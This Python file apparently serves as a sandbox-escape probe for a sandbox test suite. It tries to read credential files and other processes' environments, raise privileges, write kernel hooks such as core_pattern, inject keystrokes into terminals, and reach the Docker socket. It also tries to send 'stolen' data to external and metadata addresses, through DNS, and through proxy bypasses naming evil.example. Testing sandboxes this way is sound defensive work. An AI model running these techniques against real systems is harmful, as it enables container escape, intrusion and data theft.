"""Tries to reach out of the walls in every way that leaves the attempt alive: files, /proc, sockets, namespaces, network."""

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import termios
import threading

from probing import TARGETS, probe, read, say, write

LIBC = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """Call a function of libc."""
    if getattr(LIBC, name)(*arguments) == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return "done"


def lines(path):
    with open(path) as file:
        return list(file)


def files():
    marks, repo, state = TARGETS["marks"], TARGETS["repo"], TARGETS["state"]
    for path in (marks, repo, state, state + "/objects.git", "/usr", "/usr/local/bin", "/etc", "", "/reeve", "/env", "/env/bin", "/dev",
                 "../../../../.." + marks, "/proc/1/root" + marks, "/proc/self/cwd/../../../.." + marks):  # fmt: skip
        probe("write " + path, write, path + "/wrote")
    for path in TARGETS["secrets"]:
        probe("read " + path, read, path)
    for path in ("/etc/shadow", "/root/.ssh", "/root/.aws", "/home", "/var", "/run", "/srv", "/boot", "/sys", "/proc/kcore", "/dev/mem",
                 "/dev/sda", "/dev/vda", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev/vsock", "/dev/userfaultfd"):  # fmt: skip
        probe("open " + path, read, path)
    os.makedirs("links", exist_ok=True)
    os.symlink(marks, "links/folder")
    os.symlink(TARGETS["secrets"][0], "links/secret")
    probe("link write", write, "links/folder/wrote-through-link")
    probe("link read", read, "links/secret")
    for number, path in enumerate(("/usr/bin/env", "/env/pyvenv.cfg", "/reeve/task.json", TARGETS["secrets"][0])):
        probe(f"hard link {path}", os.link, path, f"links/hard{number}")
    probe("remove", os.unlink, "/reeve/task.json")
    probe("rename", os.rename, "/env/pyvenv.cfg", "/env/other")


def environment():
    say("environment", dict(os.environ))
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        for part in ("environ", "cmdline"):
            probe(f"process {pid} {part}", read, f"/proc/{pid}/{part}")
    probe("table of mounts", read, "/proc/self/mountinfo")


def processes():
    say("processes", sorted(int(name) for name in os.listdir("/proc") if name.isdigit()))
    host = TARGETS["pid"]
    probe("signal", os.kill, host, signal.SIGUSR1)
    probe("signal its group", os.killpg, host, signal.SIGUSR1)
    probe("look", read, f"/proc/{host}/root")
    probe(
        "status",
        lambda: [line.split() for line in lines("/proc/self/status") if line.startswith(("Cap", "NoNew", "Seccomp:"))],
    )
    probe("who", lambda: (os.getuid(), os.geteuid(), os.getgid(), os.getgroups()))
    for name, ids in (("setuid", (0,)), ("setgid", (0,)), ("setresuid", (0, 0, 0))):
        probe(name, getattr(os, name), *ids)
    probe("setgroups", os.setgroups, [0])
    # PTRACE_SEIZE; our own child is as forbidden as the first process, so that no helper can be made of it either.
    probe("ptrace", call, "ptrace", 0x4206, 1, 0, 0)
    probe("process_vm_readv", call, "process_vm_readv", 1, None, 0, None, 0, 0)
    probe("process_vm_writev", call, "process_vm_writev", 1, None, 0, None, 0, 0)
    say("descriptors", sorted(int(fd) for fd in os.listdir("/proc/self/fd"))[:-1])
    for fd in range(3, 64):
        try:
            say(f"inherited {fd}", os.pread(fd, 100, 0))
        except OSError:
            continue
    probe(
        "core limit",
        lambda: (resource.setrlimit(resource.RLIMIT_CORE, (0, 0)), resource.getrlimit(resource.RLIMIT_CORE))[1],
    )


def kernel():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
                 "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/proc/self/oom_score_adj/x"):  # fmt: skip
        probe("kernel " + path, write, path, b"|/bin/false attacked")
    for path in ("/proc/self/exe", "/proc/1/exe", TARGETS["python"], TARGETS["bwrap"]):
        probe("program " + path, os.open, path, os.O_WRONLY)
    handle = os.open("/proc/self/exe", os.O_PATH)
    probe("program through a handle", os.open, f"/proc/self/fd/{handle}", os.O_WRONLY)
    probe("mount", call, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
    probe("bind", call, "mount", b"/", b"/tmp", None, 4096, None)
    probe("remount", call, "mount", b"none", b"/usr", None, 32, None)
    probe("umount", call, "umount2", b"/proc/sys", 2)
    for name, flag in (
        ("user", 0x10000000),
        ("mount", 0x20000),
        ("net", 0x40000000),
        ("pid", 0x20000000),
        ("cgroup", 0x02000000),
    ):
        probe("unshare " + name, call, "unshare", flag)
    probe("setns", call, "setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0)
    probe("chroot", os.chroot, "/tmp")
    for name, mode, device in (("block", 0o60666, (254, 0)), ("memory", 0o20666, (1, 1)), ("null", 0o20666, (1, 3))):
        probe("device " + name, os.mknod, "links/" + name, mode, os.makedev(*device))
    for size in (1 << 17, 1 << 33):
        probe(f"segment {size}", lambda size=size: call("shmget", 0, ctypes.c_size_t(size), 0o1600))


def terminal():
    for path in ("/dev/tty", TARGETS["terminal"], "/dev/console"):
        if path:
            probe("terminal " + path, lambda path=path: push(os.open(path, os.O_RDWR | os.O_NOCTTY)))
    for fd in (0, 1, 2):
        probe(f"terminal {fd}", push, fd)
    probe("own terminal", own_terminal)


def push(fd):
    """Put a command into the input of a terminal."""
    for letter in b"touch %s/typed\n" % os.fsencode(TARGETS["marks"]):
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
    return "typed"


def own_terminal():
    """A terminal of our own, where nothing but the filter of system calls stands in the way."""
    _, slave = os.openpty()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
            push(slave)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    status = os.WEXITSTATUS(os.waitpid(pid, 0)[1])
    if status:
        raise OSError(status, "")
    return "typed"


def unix_sockets():
    for name, path in sorted(TARGETS["unix"].items()):
        probe("unix " + name, connect_unix, path)
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                 "/run/systemd/private", "/run/user/0/bus", "/run/podman/podman.sock", "/tmp/.X11-unix/X0"):  # fmt: skip
        probe("unix " + path, connect_unix, path)
    probe("abstract", connect_unix, "\0" + TARGETS["abstract"])
    probe(
        "abstract datagram",
        lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "\0" + TARGETS["abstract"]),
    )
    for name, family in (
        ("netlink", 16),
        ("packet", 17),
        ("vsock", 40),
        ("crypto", 38),
        ("bluetooth", 31),
        ("xdp", 44),
    ):
        probe("family " + name, lambda family=family: socket.socket(family, socket.SOCK_RAW, 0))


def connect_unix(path):
    with socket.socket(socket.AF_UNIX) as plain:
        plain.settimeout(3)
        plain.connect(path)
        plain.send(b"stolen")
    return "connected"


def network():
    probe("interfaces", lambda: [line.split(":")[0].strip() for line in lines("/proc/net/dev") if ":" in line])
    port = TARGETS["tcp"]
    for address in TARGETS["addresses"]:
        probe("tcp " + address, send, address, port, b"stolen")
        probe("udp " + address, datagram, address, TARGETS["udp"], b"stolen")
    for address in ("1.1.1.1", "93.184.216.34", "2606:4700:4700::1111"):
        probe("tcp " + address, send, address, 443, b"stolen")
        probe("udp " + address, datagram, address, 53, b"stolen")
    probe("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    ask = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x06stolen\x05reeve\x07example\0\0\1\0\1"
    for server in TARGETS["nameservers"]:
        probe("dns " + server, datagram, server, 53, ask)
    probe("dns of the host", datagram, "127.0.0.1", TARGETS["udp"], ask)
    probe("resolve", socket.getaddrinfo, "stolen.reeve.example", 80)
    probe("resolve localhost", lambda: socket.getaddrinfo("localhost", 80) and "known from the file")
    for address in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200"):
        probe("metadata " + address, send, address, 80, b"GET / HTTP/1.0\r\n\r\n")


def proxies():
    port = TARGETS["proxy"]
    say("proxy variables", sorted(name for name in os.environ if "proxy" in name.lower()))
    for name in (
        "allowed.example\0.evil.example",
        "allowed.example.",
        "user@evil.example",
        "2130706433",
        "0x7f.1",
        "evil.example:443",
    ):
        head = (f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}\r\n\r\n").encode()
        probe(f"connect {name!r}", send, "127.0.0.1", port, head)
        socks = b"\5\1\0" + b"\5\1\0\3" + bytes([len(name)]) + name.encode() + b"\1\273"
        probe(f"socks {name!r}", send, "127.0.0.1", port, socks)
    for label in ("c2VjcmV0", "stolen"):
        probe(
            f"front {label}",
            send,
            "127.0.0.1",
            port,
            b"CONNECT %s.allowed.example:443 HTTP/1.1\r\n\r\n" % label.encode(),
        )
    threads = [threading.Thread(target=drip, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def drip(number):
    """One byte at a time, over many connections at once."""
    for letter in b"stolen":
        probe(f"drip {number}", send, "127.0.0.1", TARGETS["proxy"], bytes([letter]))


def send(address, port, content):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as connection:
        connection.settimeout(3)
        connection.connect((address, port))
        connection.sendall(content)
    return "sent"


def datagram(address, port, content):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as plain:
        plain.sendto(content, (address, port))
    return "sent"


for each in (files, environment, processes, kernel, terminal, unix_sockets, network, proxies):
    each()
